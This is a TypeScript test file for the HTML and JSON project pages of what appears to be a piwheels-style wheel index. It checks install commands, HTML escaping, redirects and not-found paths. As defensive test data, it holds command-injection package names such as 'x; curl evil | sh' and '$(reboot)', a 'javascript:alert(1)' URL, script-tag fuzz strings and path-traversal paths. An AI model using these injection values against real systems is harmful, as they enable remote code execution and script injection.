import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sha256Hex } from '../../src/core/digest.ts'
import { normalizeName } from '../../src/core/distribution.ts'
import { projectPage } from '../../src/http/project-page.ts'
import type { ProjectView, ReleaseView, WheelView } from '../../src/http/project-view.ts'
import { CP311, CP313, testApp } from './http-fixtures.ts'

const LOG = sha256Hex('log')

function aWheel(over: Partial<WheelView> = {}): WheelView {
  return {
    filename: 'demo-1.0-cp311-cp311-linux_armv7l.whl',
    sha256: sha256Hex('wheel'),
    size: 123_456,
    target: CP311,
    requiresPython: '>=3.8',
    aptPackages: ['zlib1g', 'libjpeg62-turbo'],
    pipDependencies: ['six', 'attrs'],
    builder: '12D3KooW',
    log: LOG,
    yanked: false,
    ...over
  }
}

function aRelease(over: Partial<ReleaseView> = {}): ReleaseView {
  return {
    version: '1.0',
    releasedMs: 1_767_225_600_000,
    prerelease: false,
    yanked: false,
    skipReason: '',
    wheels: [aWheel()],
    cells: [
      { target: CP311, state: 'built', reason: '', log: LOG },
      { target: CP313, state: 'failed', reason: 'missing header <jpeglib.h>', log: LOG }
    ],
    ...over
  }
}

function aView(over: Partial<ProjectView> = {}): ProjectView {
  return {
    name: normalizeName('demo'),
    displayName: 'Demo',
    summary: 'Shows things',
    upstreamUrl: 'https://upstream.invalid/project/demo/',
    targets: [CP311, CP313],
    releases: [aRelease()],
    ...over
  }
}

function appWith(view: ProjectView) {
  return testApp({ projects: { view: async (name) => (name === view.name ? view : undefined) } }).app
}

describe('the page', () => {
  test('shows what was built, what failed and why, and how to install it', async () => {
    const response = await appWith(aView()).request('/project/demo')
    const text = await response.text()
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(text).toContain(`<a href="../logs/${LOG}">built</a>`)
    expect(text).toContain('missing header &lt;jpeglib.h&gt;')
    expect(text).toContain(
      'sudo apt install libjpeg62-turbo zlib1g\npip install --index-url http://localhost/simple/ demo'
    )
    expect(text).toContain('120.6 KiB')
    expect(text).not.toContain('<script')
  })

  test('a target without a word is not wanted', () => {
    expect(projectPage(aView({ releases: [aRelease({ cells: [] })] }), 'http://x/')).toContain('not wanted')
  })

  test('older versions are folded away', () => {
    const releases = Array.from({ length: 13 }, (_, i) =>
      aRelease({ version: `1.${i}`, wheels: [], cells: [] })
    )
    const text = projectPage(aView({ releases }), 'http://x/')
    expect(text).toContain('<summary>3 older versions</summary>')
  })

  test('a project without releases, wheels or targets is a page as well', () => {
    const text = projectPage(
      aView({ releases: [], targets: [], upstreamUrl: 'javascript:alert(1)' }),
      'http://x/'
    )
    expect(text).toContain('no release with a source archive')
    expect(text).not.toContain('javascript:')
  })

  test('the install command is of a usual release, and copies no shell code out of a builder’s record', () => {
    const odd = aWheel({ aptPackages: ['ok1', 'x; curl evil | sh', '$(reboot)', '-o=Evil'] })
    const releases = [
      aRelease({ version: '3.0a1', prerelease: true, wheels: [aWheel({ aptPackages: ['pre'] })] }),
      aRelease({ version: '2.0', yanked: true, wheels: [aWheel({ aptPackages: ['yanked'] })] }),
      aRelease({ version: '1.0', wheels: [odd] })
    ]
    expect(projectPage(aView({ releases }), 'http://x/simple/')).toContain(
      '<pre>sudo apt install ok1\npip install --index-url http://x/simple/ demo</pre>'
    )
  })

  test('whatever records and pages hold, their text stays text', () => {
    const nasty = fc.string({ unit: fc.constantFrom('<', '>', '"', "'", '&', 'script', '/', ' ', 'on=') })
    fc.assert(
      fc.property(nasty, nasty, (a, b) => {
        const view = aView({
          displayName: a,
          summary: `${b}<img src=x>`,
          releases: [
            aRelease({
              version: a,
              skipReason: `${b}<b>`,
              wheels: [aWheel({ filename: `${a}.whl`, aptPackages: [b], yanked: b })],
              cells: [{ target: CP311, state: 'failed', reason: `"${a}><script>` }]
            })
          ]
        })
        const tags = new Set(
          (projectPage(view, 'http://x/').match(/<[a-z]+/gi) ?? []).map((tag) => tag.slice(1))
        )
        expect([...tags].filter((tag) => ['script', 'img', 'b'].includes(tag))).toEqual([])
      })
    )
  })
})

describe('the JSON', () => {
  test('keeps piwheels’ names and adds builds', async () => {
    const json: unknown = await (await appWith(aView()).request('/project/demo/json')).json()
    expect(json).toEqual({
      package: 'Demo',
      summary: 'Shows things',
      pypi_url: 'https://upstream.invalid/project/demo/',
      piwheels_url: '../demo',
      targets: [CP311, CP313],
      releases: {
        '1.0': {
          released: '2026-01-01 00:00:00',
          prerelease: false,
          yanked: false,
          skip_reason: '',
          files: {
            'demo-1.0-cp311-cp311-linux_armv7l.whl': {
              file_url: `../../files/${sha256Hex('wheel')}/demo-1.0-cp311-cp311-linux_armv7l.whl`,
              filehash: sha256Hex('wheel'),
              filesize: 123_456,
              builder_abi: 'cp311',
              file_abi_tag: 'cp311',
              platform: 'linux_armv7l',
              requires_python: '>=3.8',
              apt_dependencies: ['libjpeg62-turbo', 'zlib1g'],
              pip_dependencies: ['attrs', 'six'],
              target: CP311,
              builder: '12D3KooW',
              log: `../../logs/${LOG}`,
              yanked: false
            }
          },
          builds: {
            [CP311]: { outcome: 'built', reason: '', log: `../../logs/${LOG}` },
            [CP313]: { outcome: 'failed', reason: 'missing header <jpeglib.h>', log: `../../logs/${LOG}` }
          }
        }
      }
    })
  })

  test('links lead to files from where they stand', async () => {
    const url = new URL(`../../files/x`, 'http://node/project/demo/json')
    expect(url.pathname).toBe('/files/x')
  })
})

test.for([
  { path: '/project/De.Mo', name: 'de-mo', to: 'de-mo' },
  { path: '/project/De.Mo/json', name: 'de-mo', to: '../de-mo/json' },
  { path: '/project/Demo/', name: 'demo', to: '../demo' },
  { path: '/project/demo/json/', name: 'demo', to: '../json' }
])('$path is moved to $to', async ({ path, name, to }) => {
  const response = await appWith(aView({ name: normalizeName(name) })).request(path)
  expect([response.status, response.headers.get('location')]).toEqual([301, to])
})

test.for([
  '/project/unknown',
  '/project/unknown/json',
  '/project/..%2Fx',
  '/project/..%2Fx/',
  '/project/%00/json'
])('%s is not found', async (path) => {
  expect((await appWith(aView()).request(path)).status).toBe(404)
})
